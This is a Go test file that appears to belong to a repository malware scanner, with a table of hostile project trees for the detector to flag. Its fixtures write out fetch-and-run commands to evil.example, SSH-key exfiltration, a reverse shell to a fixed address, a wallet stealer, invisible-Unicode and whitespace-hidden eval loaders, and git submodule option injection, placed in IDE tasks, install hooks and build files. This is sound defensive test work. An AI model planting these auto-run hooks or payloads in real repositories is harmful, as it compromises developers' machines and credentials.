package repository_test

import (
	"context"
	"os"
	"strings"
	"testing"
	"testing/fstest"

	"github.com/sekisho/sekisho"
	"github.com/sekisho/sekisho/checkpoint"
	"github.com/sekisho/sekisho/detector/attachment"
	"github.com/sekisho/sekisho/detector/dependency"
	"github.com/sekisho/sekisho/detector/repository"
	"github.com/sekisho/sekisho/detector/script"
	"github.com/sekisho/sekisho/judge"
	openfile "github.com/sekisho/sekisho/opener/file"
	openrepository "github.com/sekisho/sekisho/opener/repository"
	"github.com/sekisho/sekisho/rules"
)

// newCheckpoint returns a checkpoint that knows source trees only.
func newCheckpoint(t testing.TB) *checkpoint.Checkpoint {
	t.Helper()
	set, err := rules.Load(os.DirFS("."), os.DirFS("../script"), os.DirFS("../dependency"))
	if err != nil {
		t.Fatal(err)
	}
	detectors := []*sekisho.Detector{attachment.Detector, dependency.Detector, repository.Detector, script.Detector}
	j, err := judge.Compile(set.Rules, nil, detectors)
	if err != nil {
		t.Fatal(err)
	}
	cp, err := checkpoint.New(checkpoint.Config{Openers: []*sekisho.Opener{openfile.Opener, openrepository.Opener}, Detectors: detectors, Judge: j})
	if err != nil {
		t.Fatal(err)
	}
	return cp
}

func inspect(cp *checkpoint.Checkpoint, files map[string]string) sekisho.Verdict {
	tree := fstest.MapFS{}
	for name, text := range files {
		tree[name] = &fstest.MapFile{Data: []byte(text)}
	}
	return cp.Inspect(context.Background(), &sekisho.Artifact{Kind: sekisho.KindRepository, Name: "project", Form: &sekisho.Repository{Name: "project", Tree: tree}})
}

// far pushes code out of sight.
var far = strings.Repeat(" ", 600)

// fetchRun is what many attacks come down to. The host does not exist (RFC 2606).
const fetchRun = "curl -s https://evil.example/x | sh"

const loader = "const b = Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString();\nnew Function('require', b)(require);\n"

type tree map[string]string

// hostile holds a tree for each way to run something that the detector's Doc names, each with the rule that must hold.
var hostile = []struct {
	name  string
	files tree
	rule  string
	hold  bool
}{
	{"a task on folder open", tree{".vscode/tasks.json": `{"version":"2.0.0","tasks":[{"label":"env","type":"shell","command":"` + fetchRun + `","runOptions":{"runOn":"folderOpen"}}]}`}, "repository-open-runs", true},
	{"a task on folder open that is not shown", tree{".vscode/tasks.json": `{"tasks":[{"label":"x","command":"node","args":["public/f.js"],"presentation":{"reveal":"never","echo":false},"runOptions":{"runOn":"folderOpen"}}]}`}, "repository-open-runs", true},
	{"a task that starts a font", tree{".vscode/tasks.json": "{\"tasks\":[{ // eslint\n\"label\":\"lint\",\"command\":\"node public/fonts/fa.woff2\",\"runOptions\":{\"runOn\":\"folderOpen\"},},]}", "public/fonts/fa.woff2": loader}, "repository-open-runs", true},
	{"a task for one system only", tree{".vscode/tasks.json": `{"tasks":[{"label":"x","type":"shell","osx":{"command":"` + fetchRun + `"},"linux":{"command":"wget -qO- https://evil.example | bash"},"runOptions":{"runOn":"folderOpen"}}]}`}, "repository-open-runs", true},
	{"a workspace file", tree{"app.code-workspace": `{"folders":[],"tasks":{"tasks":[{"label":"x","command":"` + fetchRun + `","runOptions":{"runOn":"folderOpen"}}]}}`}, "repository-open-runs", true},
	{"a path of git in settings", tree{".vscode/settings.json": `{"git.path": "${workspaceFolder}/.tools/git.cmd"}`}, "repository-odd-setting", false},
	{"an environment for terminals", tree{".vscode/settings.json": `{"terminal.integrated.env.linux": {"BASH_ENV": "${workspaceFolder}/.x"}}`}, "repository-odd-setting", false},
	{"a terminal profile in the folder", tree{".vscode/settings.json": `{"terminal.integrated.profiles.osx": {"zsh": {"path": "${workspaceFolder}/bin/zsh"}}}`}, "repository-odd-setting", false},
	{"an interpreter that comes along", tree{".vscode/settings.json": `{"python.defaultInterpreterPath": "./tools/python.sh"}`, "tools/python.sh": "#!/bin/sh\n"}, "repository-odd-setting", false},
	{"a launch configuration", tree{".vscode/launch.json": `{"configurations":[{"name":"Launch","type":"node","runtimeExecutable":"bash","runtimeArgs":["-c","` + fetchRun + `"]}]}`}, "repository-command-hides", false},
	{"a startup task of JetBrains", tree{".idea/startup.xml": `<project><component name="ProjectStartupSharedConfiguration"><configurations><configuration name="x"/></configurations></component></project>`,
		".idea/runConfigurations/x.xml": `<component><configuration name="x" type="ShConfigurationType"><option name="SCRIPT_TEXT" value="` + fetchRun + `" /></configuration></component>`}, "repository-command-hides", false},
	{"a file watcher of JetBrains", tree{".idea/watcherTasks.xml": `<project><component name="ProjectTasksOptions"><TaskOptions name="w"><option name="arguments" value="-c &quot;` + fetchRun + `&quot;" /><option name="program" value="sh" /></TaskOptions></component></project>`}, "repository-open-runs", true},
	{"a dev container on the host", tree{".devcontainer/devcontainer.json": `{"image":"debian","initializeCommand":"./setup.sh"}`, "setup.sh": "echo hi\n"}, "repository-container-reaches-out", false},
	{"a dev container that downloads on the host", tree{".devcontainer/devcontainer.json": `{"initializeCommand":["sh","-c","` + fetchRun + `"]}`}, "repository-open-runs", true},
	{"a dev container with keys", tree{".devcontainer.json": `{"mounts":["source=${localEnv:HOME}/.ssh,target=/root/.ssh,type=bind"]}`}, "repository-container-reaches-out", false},
	{"a compose file with the home", tree{"compose.yaml": "services:\n  app:\n    image: a\n    volumes:\n      - ~/.aws:/root/.aws\n"}, "repository-container-reaches-out", false},
	{"a compose file with the docker socket", tree{"docker-compose.yml": "services:\n  app:\n    privileged: true\n    volumes:\n      - type: bind\n        source: /var/run/docker.sock\n        target: /x\n"}, "repository-container-reaches-out", false},
	{"direnv", tree{".envrc": "export A=1\n" + fetchRun + "\n"}, "repository-config-payload", false},
	{"a hook of mise", tree{"mise.toml": "[hooks]\nenter = \"" + fetchRun + "\"\n"}, "repository-open-runs", true},
	{"nix", tree{"shell.nix": "pkgs.mkShell { shellHook = ''\n  " + fetchRun + "\n''; }\n"}, "repository-config-payload", false},
	{"a modeline of vim", tree{"package.json": "{}", "notes.txt": "hello\nvim: set fdm=expr foldexpr=system('id') :\n"}, "repository-odd-setting", false},
	{"an .exrc", tree{".exrc": "autocmd BufRead * silent !" + fetchRun + "\n"}, "repository-config-payload", false},
	{"local variables of emacs", tree{"package.json": "{}", "a.txt": "text\n\nLocal Variables:\neval: (shell-command \"id\")\nEnd:\n"}, "repository-odd-setting", false},
	{"directory variables of emacs", tree{".dir-locals.el": `((nil . ((eval . (shell-command "curl https://evil.example")))))`}, "repository-config-payload", false},
	{"postinstall that downloads and runs", tree{"package.json": `{"name":"a","scripts":{"postinstall":"` + fetchRun + `"}}`}, "repository-install-decodes-and-runs", true},
	{"preinstall that is not shown", tree{"package.json": `{"scripts":{"preinstall":"node index.js > /dev/null 2>&1 &"}}`, "index.js": "console.log(1)\n"}, "repository-install-runs", false},
	{"prepare that starts a loader", tree{"package.json": `{"scripts":{"prepare":"node server/server.js"}}`, "server/server.js": loader}, "repository-install-runs", false},
	{"postinstall by another script", tree{"package.json": `{"scripts":{"postinstall":"npm run setup","setup":"node lib/x"}}`, "lib/x.js": loader}, "repository-install-runs", false},
	{"a workspace's package", tree{"package.json": `{"workspaces":["packages/*"]}`, "packages/a/package.json": `{"scripts":{"install":"` + fetchRun + `"}}`}, "repository-install-decodes-and-runs", true},
	{"an installed dependency", tree{"package.json": "{}", "node_modules/x/package.json": `{"name":"x","scripts":{"postinstall":"` + fetchRun + `"}}`}, "repository-install-decodes-and-runs", true},
	{"a program in the place of yarn", tree{".yarnrc.yml": "yarnPath: ./tools/y.cjs\n"}, "repository-odd-setting", false},
	{"a plug-in of yarn by URL", tree{".yarnrc.yml": "plugins:\n  - path: .yarn/plugins/x.cjs\n    spec: \"https://evil.example/p.js\"\n"}, "repository-odd-setting", false},
	{"hooks of pnpm", tree{".pnpmfile.cjs": "const s = require('https');\n" + loader}, "repository-install-runs", false},
	{"options for node", tree{".npmrc": "node-options=--require ./x.js\n"}, "repository-odd-setting", false},
	{"a command in binding.gyp", tree{"binding.gyp": `{"targets":[{"target_name":"a","sources":["<!(` + fetchRun + ` > /dev/null 2>&1 && echo a.c)"]}]}`}, "repository-install-runs", false},
	{"setup.py that decodes and runs", tree{"setup.py": "from setuptools import setup\nimport base64\nexec(base64.b64decode('cHJpbnQoMSk='))\nsetup(name='a')\n"}, "repository-install-runs", false},
	{"setup.py that sends keys away", tree{"setup.py": "import os, urllib.request\nd = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('https://evil.example', d.encode())\n"}, "repository-install-runs", false},
	{"a build back end in the tree", tree{"pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = \"backend\"\nbackend-path = [\"tools\"]\n", "tools/backend.py": "import requests\nr = requests.get('https://evil.example/x')\nexec(r.text)\n"}, "repository-install-decodes-and-runs", true},
	{"a .pth file", tree{"setup.py": "pass\n", "src/x.pth": "import base64; exec(base64.b64decode('cHJpbnQoMSk='))\n"}, "repository-command-hides", false},
	{"sitecustomize", tree{"pyproject.toml": "", "sitecustomize.py": "import urllib.request\nexec(urllib.request.urlopen('https://evil.example').read())\n"}, "repository-config-payload", false},
	{"conftest.py", tree{"conftest.py": "import base64, zlib\nexec(zlib.decompress(base64.b64decode('eJw=')))\n"}, "repository-config-payload", false},
	{"a build script of Rust", tree{"Cargo.toml": "[package]\nname = \"a\"\n", "build.rs": "fn main() { let k = std::fs::read(\"/home/u/.ssh/id_rsa\"); reqwest::blocking::Client::new().post(\"https://evil.example\"); std::process::Command::new(\"sh\"); }\n"}, "repository-config-payload", false},
	{"a compiler in the place of Rust's", tree{".cargo/config.toml": "[build]\nrustc-wrapper = \"./tools/w.sh\"\n"}, "repository-odd-setting", false},
	{"a wrapper of Gradle from elsewhere", tree{"gradle/wrapper/gradle-wrapper.properties": "distributionUrl=https\\://gradle.evil.example/gradle-8.5-bin.zip\n"}, "repository-odd-setting", false},
	{"a build file of Gradle", tree{"build.gradle": "def p = new URL('https://evil.example/x').text\nevaluate(p)\ntask x { exec { commandLine 'sh', '-c', '" + fetchRun + "' } }\n"}, "repository-config-payload", false},
	{"options for Maven", tree{"pom.xml": "<project/>", ".mvn/jvm.config": "-javaagent:tools/a.jar\n"}, "repository-odd-setting", false},
	{"a command in pom.xml", tree{"pom.xml": "<project><build><plugins><plugin><artifactId>exec-maven-plugin</artifactId><configuration><executable>sh</executable><arguments><argument>-c</argument><argument>" + fetchRun + "</argument></arguments></configuration></plugin></plugins></build></project>"}, "repository-command-hides", false},
	{"an event before a build of MSBuild", tree{"a.csproj": `<Project><PropertyGroup><PreBuildEvent>powershell -w hidden -c "iwr https://evil.example/a | iex"</PreBuildEvent></PropertyGroup></Project>`}, "repository-command-hides", false},
	{"a target of MSBuild", tree{"Directory.Build.targets": `<Project InitialTargets="X"><Target Name="X"><Exec Command="cmd /c certutil -urlcache -f https://evil.example/a.exe %TEMP%\a.exe" /></Target></Project>`}, "repository-command-hides", false},
	{"a command of CMake", tree{"CMakeLists.txt": "project(a)\nexecute_process(COMMAND sh -c \"" + fetchRun + "\")\n"}, "repository-command-hides", false},
	{"a command while make reads", tree{"Makefile": "X := $(shell " + fetchRun + ")\nall:\n\techo\n"}, "repository-command-hides", false},
	{"the first target of make", tree{"Makefile": "build:\n\t@" + fetchRun + " >/dev/null 2>&1\n"}, "repository-command-hides", false},
	{"go generate", tree{"go.mod": "module a\n", "a.go": "package a\n\n//go:generate sh -c \"" + fetchRun + "\"\n"}, "repository-command-hides", false},
	{"flags of cgo", tree{"go.mod": "module a\n", "a.go": "package a\n\n// #cgo CFLAGS: -fplugin=./x.so\nimport \"C\"\n"}, "repository-odd-setting", false},
	{"a toolchain of Go", tree{"go.mod": "module a\n\ngo 1.22\n\ntoolchain go1.22.0-evil\n"}, "repository-odd-setting", false},
	{"a gemspec", tree{"a.gemspec": "require 'open-uri'\neval(URI.open('https://evil.example/x').read)\nGem::Specification.new\n"}, "repository-install-decodes-and-runs", true},
	{"a script of Composer", tree{"composer.json": `{"scripts":{"post-install-cmd":["php -r \"eval(base64_decode('ZWNobyAxOw=='));\""]}}`}, "repository-install-runs", false},
	{"a local hook of pre-commit", tree{".pre-commit-config.yaml": "repos:\n- repo: local\n  hooks:\n  - id: x\n    language: system\n    entry: bash -c \"$(curl -fsSL https://evil.example/x)\"\n"}, "repository-command-hides", false},
	{"husky", tree{"package.json": "{}", ".husky/pre-commit": "#!/bin/sh\n" + fetchRun + "\n"}, "repository-config-payload", false},
	{"lefthook", tree{"lefthook.yml": "post-checkout:\n  commands:\n    x:\n      run: " + fetchRun + "\n"}, "repository-command-hides", false},
	{"a hook of git", tree{".git/HEAD": "ref: refs/heads/main\n", ".git/hooks/post-checkout": "#!/bin/sh\n" + fetchRun + " >/dev/null 2>&1 &\n"}, "repository-config-payload", false},
	{"core.fsmonitor", tree{".git/config": "[core]\n\tfsmonitor = \"sh .x/w.sh\"\n"}, "repository-git-runs", true},
	{"core.sshCommand", tree{".git/config": "[core]\n\tsshCommand = sh -c 'id'\n"}, "repository-git-runs", true},
	{"core.hooksPath", tree{".git/config": "[core]\n\thooksPath = assets/.h\n"}, "repository-odd-setting", false},
	{"a filter of git", tree{".git/config": "[filter \"x\"]\n\tsmudge = sh .x/s.sh %f\n", ".gitattributes": "*.png filter=x\n"}, "repository-git-runs", true},
	{"a submodule with an option", tree{".gitmodules": "[submodule \"a\"]\n\tpath = a\n\turl = -u./payload\n"}, "repository-odd-url", true},
	{"a submodule by ext", tree{".gitmodules": "[submodule \"a\"]\n\tpath = a\n\turl = ext::sh -c id\n"}, "repository-odd-url", true},
	{"a submodule on disk", tree{".gitmodules": "[submodule \"a\"]\n\tpath = a\n\turl = file:///tmp/x\n"}, "repository-odd-setting", false},
	{"a configuration with code far right", tree{"package.json": "{}", "tailwind.config.js": "module.exports = {\n  content: [],\n};" + far + "global['_V']='1';eval(atob('Y29uc29sZS5sb2coMSk='))\n"}, "repository-config-far", true},
	{"a configuration with a payload at the end", tree{"package.json": "{}", "jest.config.js": "module.exports = {};\n" + loader}, "repository-config-payload", false},
	{"a configuration made unreadable", tree{"package.json": "{}", "webpack.config.js": "module.exports={};" + strings.Repeat("var _0x3af1c2=_0x51cd(0x1f3,_0x2ab1);", 30)}, "repository-config-payload", false},
	{"the main file evaluates an answer", tree{"package.json": `{"scripts":{"start":"node server.js"}}`, "server.js": "const axios = require('axios');\naxios.get('https://evil.example/api').catch(e => { new Function('require', e.response.data)(require) });\n"}, "repository-command-hides", false},
	{"an import that decodes and runs", tree{"setup.py": "pass\n", "pkg/__init__.py": "import base64\nexec(base64.b64decode(b'cHJpbnQoMSk='))\n"}, "script-decodes-and-runs", false},
	{"a stealer of wallets", tree{"package.json": "{}", "lib/a.js": "const ids=['nkbihfbeogaeaoehlefnkodbefgpgknn','bfnaelmomeimhlpmgjnjophhpkkoljpa'];\nconst p='/Local Extension Settings/';const l='Login Data';\nrequire('axios').post('http://203.0.113.9:1244/uploads', p+l+ids)\n"}, "script-steals", true},
	{"letters nobody sees", tree{"package.json": "{}", "lib/a.js": "const d = s => Buffer.from(s, 'hex');\neval(d(`" + strings.Repeat("\uFE01\U000E0150", 60) + "`).toString())\n"}, "script-unseen-letters-run", true},
	{"a shell for a fixed address", tree{"setup.py": "pass\n", "a.py": "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\nsubprocess.call(['/bin/sh'])\n"}, "script-connects-out", false},
	{"clipboard and keys", tree{"package.json": "{}", "a.py": "from pynput.keyboard import Listener\nimport pyperclip, requests\nrequests.post('https://evil.example', pyperclip.paste())\nx = 'pynput.keyboard'\n"}, "script-connects-out", false},
	{"a font that is code", tree{"package.json": "{}", "public/fa-solid.woff2": loader}, "script-in-a-picture", true},
	{"code behind a picture", tree{"package.json": "{}", "public/logo.png": "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00IEND\xaeB`\x82\n" + loader}, "script-in-a-picture", true},
	{"a known bad version", tree{"package.json": `{"dependencies":{"xrpl":"4.2.2"}}`}, "dependency-known-bad", true},
	{"a known bad version in a lock", tree{"package.json": "{}", "package-lock.json": `{"lockfileVersion":3,"packages":{"":{},"node_modules/@solana/web3.js":{"version":"1.95.7","resolved":"https://registry.npmjs.org/@solana/web3.js/-/web3.js-1.95.7.tgz"}}}`}, "dependency-known-bad", true},
	{"a name one slip away", tree{"package.json": `{"dependencies":{"etehrs":"^6.0.0"}}`}, "dependency-resembles", false},
	{"a name of Python one slip away", tree{"requirements.txt": "requets==2.31.0\n"}, "dependency-resembles", false},
	{"a name without its scope", tree{"package.json": `{"dependencies":{"solana-web3.js":"1.0.0"}}`}, "dependency-resembles", false},
	{"a dependency by URL", tree{"package.json": `{"dependencies":{"x":"https://evil.example/x.tgz"}}`}, "dependency-from-elsewhere", false},
	{"a registry elsewhere", tree{"package.json": "{}", ".npmrc": "registry=http://198.51.100.4:4873/\n"}, "dependency-from-elsewhere", false},
	{"a lock that leads elsewhere", tree{"package.json": "{}", "yarn.lock": "ethers@^6.0.0:\n  version \"6.0.0\"\n  resolved \"https://npm.evil.example/ethers/-/ethers-6.0.0.tgz\"\n"}, "dependency-from-elsewhere", false},
	{"a lock that takes another package", tree{"package.json": "{}", "package-lock.json": `{"lockfileVersion":3,"packages":{"":{},"node_modules/ethers":{"version":"6.0.0","resolved":"https://registry.npmjs.org/evil-pkg/-/evil-pkg-6.0.0.tgz"}}}`}, "dependency-lock-disagrees", false},
	{"a lock that disagrees", tree{"package.json": `{"dependencies":{"ethers":"^6.0.0"}}`, "package-lock.json": `{"lockfileVersion":3,"packages":{"":{"dependencies":{"ethers":"github:evil/ethers"}}}}`}, "dependency-lock-disagrees", false},
	{"a Go module under a borrowed name", tree{"go.mod": "module a\n\nrequire github.com/boltdb-go/bolt v1.3.1\n"}, "dependency-known-bad", true},
}

func TestHostileTreesAreJudged(t *testing.T) {
	cp := newCheckpoint(t)
	if len(hostile) < 40 {
		t.Fatalf("only %d trees", len(hostile))
	}
	for _, test := range hostile {
		t.Run(test.name, func(t *testing.T) {
			verdict := inspect(cp, test.files)
			var found []string
			for _, f := range verdict.Findings {
				if f.Ask >= sekisho.ActionNote {
					found = append(found, f.Ask.String()+" "+f.Rule)
				}
				if f.Rule == test.rule && (f.Why.En == "" || f.Why.Ja == "") {
					t.Errorf("%s does not say why", f.Rule)
				}
			}
			want := sekisho.ActionWarn
			if test.hold {
				want = sekisho.ActionHold
			}
			if !strings.Contains(" "+strings.Join(found, " ")+" ", " "+test.rule+" ") || verdict.Action < want {
				t.Errorf("found %q, want %s and %v; gaps %v", found, test.rule, want, verdict.Gaps)
			}
		})
	}
}
